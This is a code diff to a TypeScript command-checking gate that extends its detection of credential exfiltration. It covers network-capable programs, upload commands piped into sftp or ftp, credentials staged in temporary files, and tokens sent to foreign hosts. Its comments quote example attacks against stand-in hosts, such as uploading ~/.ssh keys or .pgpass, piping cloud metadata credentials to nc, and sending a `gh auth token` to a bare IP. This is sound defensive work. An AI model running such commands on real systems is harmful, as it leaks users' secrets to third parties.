@@ -14,7 +14,8 @@
  */
 import type { Redirect, Word } from '../reading/resolution';
 import { peelWrappers, type PeeledCommand } from '../programs/wrappers';
-import { programForms } from '../programs/table';
+import { programForms, rowFor } from '../programs/table';
+import { UPLOAD_COMMANDS } from '../programs/rows/network';
 import type { Form } from '../programs/row';
 import { hardlineFinding, type HardlineFinding } from './arms';
 import { commandName, literalText } from './commandName';
@@ -168,7 +169,49 @@ export function maySend(innerArgv: readonly Word[], redirects: readonly Redirect
     if (isNetworkDevicePath(wordPathText(redirects[k]!.target))) return true;
   }
   const name = commandName(innerArgv[0])?.name ?? null;
-  return name !== null && (Object.prototype.hasOwnProperty.call(SINKS, name) || uploadForms(innerArgv).length > 0);
+  return name !== null && (Object.prototype.hasOwnProperty.call(SINKS, name) || uploadForms(innerArgv).length > 0 || networkCapable(innerArgv) !== null);
+}
+
+/**
+ * A login that reads its password or token from standard input (`docker login --password-stdin`,
+ * `gh auth login --with-token`): what is piped in is handed to the registry or service it logs in
+ * to, which is what the secret is for. Such a command is no sink (docs/decisions.md "Credentials
+ * leaving: any network-capable program").
+ */
+const STDIN_LOGIN = /^--(?:password|token|secret|pass)-stdin$|^--with-token$/;
+
+function logsInFromStdin(argv: readonly Word[]): boolean {
+  for (let k = 1; k < argv.length; k++) if (STDIN_LOGIN.test(literalText(argv[k]) ?? '')) return true;
+  return false;
+}
+
+/** A URL (`https://…`, `ftp://…`) or an ssh-style remote (`user@host:`, `user@host:path`). */
+const REMOTE_OPERAND = /^[A-Za-z][A-Za-z0-9+.-]*:\/\/[^/\s]|^[A-Za-z0-9._-]+@[A-Za-z0-9.-]+:/;
+
+/**
+ * The general sink rule (D§5): a program whose row places a `network` form in this argv (a host
+ * is contacted: `gh api`, `docker login HOST`, gawk's `/inet/` files), or a program the table cannot
+ * place (no row, or words its row cannot place) given a URL or an ssh-style remote. Returns what it
+ * contacts, described, or null. `ownWords`: whether its own words may be what it sends (a program
+ * the table cannot place, at its worst); a row that places every word says what it sends by its
+ * `sends` forms, and its other words (a key it signs in with) are used, not sent — unless it is an
+ * interpreter, whose code decides what it sends.
+ */
+function networkCapable(argv: readonly Word[]): { what: string; ownWords: boolean } | null {
+  const first = argv[0];
+  if (first === undefined || first.kind !== 'literal' || logsInFromStdin(argv)) return null;
+  const name = commandName(first)?.name ?? first.value;
+  const row = rowFor(name);
+  const reading = row === null ? null : programForms(argv);
+  const network = reading?.forms.find((form) => form.role === 'network' && form.wrapped === undefined);
+  // An interpreter's network form is its code's (gawk's `/inet/`): the code decides what it sends.
+  if (network !== undefined) return { what: network.program || name, ownWords: reading!.unreadable !== null || row!.category === 'interpreter' };
+  if (reading !== null && reading.unreadable === null) return null;
+  for (let k = 1; k < argv.length; k++) {
+    const text = literalText(argv[k]);
+    if (text !== null && REMOTE_OPERAND.test(text)) return { what: `${name} (a program the gate cannot place, given ${text})`, ownWords: true };
+  }
+  return null;
 }
 
 /**
@@ -193,7 +236,7 @@ function sinkName(command: PipelineCommand): string | null {
   if (name === null) return null;
   if (!Object.prototype.hasOwnProperty.call(SINKS, name)) {
     const upload = uploadForms(argv)[0];
-    return upload === undefined ? null : upload.program;
+    return upload !== undefined ? upload.program : (networkCapable(argv)?.what ?? null);
   }
   if (name === 'rsync' || name === 'scp') {
     return argv.slice(1).some((word) => isRemoteSpec(wordPathText(word))) ? name : null;
@@ -259,9 +302,13 @@ function sentWords(reading: SinkReading, args: readonly Word[], skipAuth = false
 function credentialInWord(word: Word, place: PathPlace): string | null {
   const text = wordPathText(word);
   if (text === '' || text.includes('://')) return null;
-  // Command text (`lftp -e 'put ~/.pgpass; bye'`, `smbclient -c 'put …'`): each of its words.
+  // Command text (`lftp -e 'put ~/.pgpass; bye'`, `smbclient -c 'put …'`, an awk program's
+  // `getline < "~/.ssh/id_rsa"`): each of its words, quotes and brackets taken off. The whole text
+  // first: a path may hold a blank (`…/Default/Login Data`).
   if (/[\s;]/.test(text) && text.length <= MAX_COMMAND_TEXT) {
-    for (const part of text.split(/[\s;]+/)) {
+    const whole = credentialAt(text, place);
+    if (whole !== null) return whole;
+    for (const part of text.split(/[\s;"'()<>|&{}]+/)) {
       if (part === '' || part === text) continue;
       const found = credentialInWord({ kind: 'literal', value: part, raw: part }, place);
       if (found !== null) return found;
@@ -356,6 +403,7 @@ function sourceOf(command: PipelineCommand): string | null {
   // in with, a folder it downloads into) are not sent.
   const uploads = uploadForms(argv);
   if (uploads.length > 0) return credentialIn(uploads.flatMap((form) => (form.value === null ? [] : [form.value])), 0, place);
+  if (networkCapable(argv)?.ownWords === false) return null;
   return credentialIn(argv, 1, place);
 }
 
@@ -382,6 +430,8 @@ export function checkExfiltration(pipeline: readonly PipelineCommand[], home: st
     const source = sourceOf(command);
     if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
   }
+  const fed = uploadsFedCommands(pipeline);
+  if (fed !== null) return hardlineFinding('credential-exfiltration', fed);
   // The cloud metadata service hands out this machine's credentials: what is fetched from it and
   // goes on to another sink of the unit (`curl 169.254.169.254/… | nc h 1`) leaves with them. Asking
   // it alone is everyday work.
@@ -390,6 +440,27 @@ export function checkExfiltration(pipeline: readonly PipelineCommand[], home: st
     if (sinks > 1 || (sinks === 1 && sinkAt !== k) || openSocket) return hardlineFinding('credential-exfiltration', `the machine's cloud credentials (from the metadata service) go to ${sink}`);
   }
   return printedSecretJoined(pipeline, home, openSocket);
+}
+
+/**
+ * Upload commands printed into a sink that reads its commands from standard input
+ * (`echo 'put ~/.ssh/id_ed25519' | sftp -b - host`, `printf 'put .env\n' | ftp -n h`):
+ * the printed text is read as the command text of `lftp -e` is, for the credentials it puts.
+ */
+function uploadsFedCommands(pipeline: readonly PipelineCommand[]): string | null {
+  for (const command of pipeline) {
+    if (command.pipedFrom < 0) continue;
+    const sink = sinkName(command);
+    if (sink === null) continue;
+    const producer = pipeline[command.pipedFrom]!.peeled.argv;
+    const name = commandName(producer[0])?.name;
+    if (name !== 'echo' && name !== 'printf' && name !== 'print') continue;
+    const text = producer.slice(1).map(wordPathText).join(' ').replace(/\\n/g, '\n');
+    if (!UPLOAD_COMMANDS.test(text)) continue;
+    const found = credentialInWord({ kind: 'literal', value: text, raw: text }, pipeline[command.pipedFrom]!.place);
+    if (found !== null) return `${found} is put by the commands ${name} feeds ${sink}`;
+  }
+  return null;
 }
 
 /** A command that names a cloud metadata address in its words. */
@@ -437,6 +508,8 @@ function printedSecretJoined(pipeline: readonly PipelineCommand[], home: string,
       const source = printedSecret(pipeline[from]!.peeled);
       if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
     }
+    const foreign = tokenToForeignHost(command, home);
+    if (foreign !== null) return hardlineFinding('credential-exfiltration', `${foreign} goes to ${sink}`);
     for (const word of substitutedWords(command)) {
       if (word.raw.length > budget) continue;
       budget -= word.raw.length;
@@ -446,6 +519,47 @@ function printedSecretJoined(pipeline: readonly PipelineCommand[], home: string,
         const source = printedSecret(peeledInner) ?? sourceOf({ peeled: peeledInner, redirects: inner.redirects, pipedFrom: -1, place: command.place });
         if (source !== null) return hardlineFinding('credential-exfiltration', `${source} goes to ${sink}`);
       }
+    }
+  }
+  return null;
+}
+
+/** A host named by a sink's word: a URL's (`https://h/…`, `h:443`), or a bare address (`203.0.113.9/api`). */
+function destinationHost(text: string): string | null {
+  const url = /^[A-Za-z][A-Za-z0-9+.-]*:\/\/(?:[^/@\s]*@)?(\[[^\]]*\]|[^/:?#\s]+)/.exec(text);
+  if (url !== null) return url[1]!.toLowerCase();
+  const bare = /^(\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?(?:[/?]|$)/.exec(text);
+  return bare === null ? null : bare[1]!;
+}
+
+/**
+ * A secret whose row says which hosts it is made for (`gh auth token`: GitHub's), printed into a
+ * word of the sink — an authentication header included — while the sink's literal destination is
+ * another host: `curl -H "Authorization: token $(gh auth token)" https://203.0.113.9/`. A
+ * destination only known at run time is not judged (the token is taken as used).
+ */
+function tokenToForeignHost(command: PipelineCommand, home: string): string | null {
+  const argv = command.peeled.argv;
+  const hosts: string[] = [];
+  for (let k = 1; k < argv.length; k++) {
+    const text = literalText(argv[k]);
+    const host = text === null ? null : destinationHost(text);
+    if (host !== null) hosts.push(host);
+  }
+  if (hosts.length === 0) return null;
+  for (let k = 1; k < argv.length; k++) {
+    const word = argv[k]!;
+    if (word.kind === 'literal' || !(word.raw.includes('$(') || word.raw.includes('`')) || word.raw.length > MAX_COMMAND_TEXT) continue;
+    for (const inner of readTextCommands(word.raw, home)) {
+      const peeledInner = peelWrappers(inner.argv);
+      const first = peeledInner.argv[0];
+      if (first === undefined || first.kind !== 'literal') continue;
+      const form = programForms(peeledInner.argv).forms.find((candidate) => candidate.role === 'credentials' && candidate.usedAt !== undefined);
+      if (form === undefined) continue;
+      // A host named among its own words (`gh auth token --hostname ghe.example.com`) is one it is for.
+      const own = [...form.usedAt!, ...peeledInner.argv.map(literalText).filter((text): text is string => text !== null && /^[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)+$/.test(text)).map((text) => text.toLowerCase())];
+      const foreign = hosts.find((host) => !own.some((mine) => host === mine || host.endsWith(`.${mine}`)));
+      if (foreign !== undefined) return `what ${form.program} prints (${form.note}), sent to ${foreign}, a host it is not made for,`;
     }
   }
   return null;
@@ -463,4 +577,71 @@ function substitutedWords(command: PipelineCommand): Word[] {
   const words = reading === null ? argv.slice(1) : sentWords(reading, argv.slice(1), true);
   for (const redirect of command.redirects) if (redirect.op === '<') words.push(redirect.target);
   return words.filter((word) => word.kind !== 'literal' && (word.raw.includes('$(') || word.raw.includes('`') || word.raw.includes('<(')));
+}
+
+/** A command of the whole line, with the unit (pipeline, subshell) it belongs to. */
+export interface LineCommand extends PipelineCommand {
+  unit: number;
+}
+
+/** The paths a command writes its output to (`>`, `>>`, `&>`; tee's operands). */
+function outputFiles(command: PipelineCommand): string[] {
+  const out: string[] = [];
+  for (const redirect of command.redirects) {
+    if (redirect.op === '>' || redirect.op === '>>' || redirect.op === '>|' || redirect.op === '&>' || redirect.op === '&>>' || (redirect.op === '>&' && redirect.target.kind === 'literal' && !/^\d+$|^-$/.test(redirect.target.value))) {
+      const path = wordPathText(redirect.target);
+      if (path !== '' && !isNetworkDevicePath(path)) out.push(path);
+    }
+  }
+  return out;
+}
+
+/**
+ * Credentials that reach a sink through a file written earlier on the line (D§5, docs/decisions.md
+ * "Credentials leaving: any network-capable program"): a source whose output is redirected to a
+ * file (`gh auth token > /tmp/t`, `cat ~/.ssh/id_rsa >> x`), or piped into `tee FILE`, or a
+ * credential file copied (`cp ~/.aws/credentials /tmp/c`), makes that file a credential; a later
+ * command of the line that names it, in a unit with a sink, sends it
+ * (`…; curl -F f=@/tmp/t https://h`). Paths are compared as written.
+ */
+export function checkThroughFiles(line: readonly LineCommand[]): HardlineFinding | null {
+  const tainted = new Map<string, string>();
+  const unitsWithSink = new Set<number>();
+  for (const command of line) if (sinkName(command) !== null) unitsWithSink.add(command.unit);
+  if (unitsWithSink.size === 0) return null;
+  for (let k = 0; k < line.length; k++) {
+    const command = line[k]!;
+    const argv = command.peeled.argv;
+    if (tainted.size > 0 && unitsWithSink.has(command.unit)) {
+      const named = [...argv.slice(1), ...command.redirects.filter((redirect) => redirect.op === '<' || redirect.op === '<>').map((redirect) => redirect.target)];
+      for (const word of named) {
+        const text = wordPathText(word);
+        for (const candidate of [text, text.slice(text.lastIndexOf('@') + 1), text.slice(text.indexOf('=') + 1).replace(/^@/, '')]) {
+          const source = tainted.get(candidate);
+          if (source !== undefined) return hardlineFinding('credential-exfiltration', `${source}, written to ${candidate} earlier on the line, goes to ${sinkOfUnit(line, command.unit)}`);
+        }
+      }
+    }
+    const upstream = command.pipedFrom >= 0 ? line[command.pipedFrom] : undefined;
+    const source = sourceOf(command) ?? printedSecret(command.peeled) ?? (upstream === undefined ? null : (sourceOf(upstream) ?? printedSecret(upstream.peeled)));
+    const name = commandName(argv[0])?.name;
+    if (source !== null) {
+      for (const path of outputFiles(command)) tainted.set(path, source);
+      if (name === 'tee') for (const word of argv.slice(1)) if (!(literalText(word) ?? '-').startsWith('-')) tainted.set(wordPathText(word), source);
+    }
+    if ((name === 'cp' || name === 'install') && argv.length >= 3) {
+      const copied = credentialIn(argv.slice(1, -1).filter((word) => !(literalText(word) ?? '').startsWith('-')), 0, command.place);
+      if (copied !== null) tainted.set(wordPathText(argv[argv.length - 1]!), copied);
+    }
+  }
+  return null;
+}
+
+function sinkOfUnit(line: readonly LineCommand[], unit: number): string {
+  for (const command of line) {
+    if (command.unit !== unit) continue;
+    const sink = sinkName(command);
+    if (sink !== null) return sink;
+  }
+  return 'the network';
 }
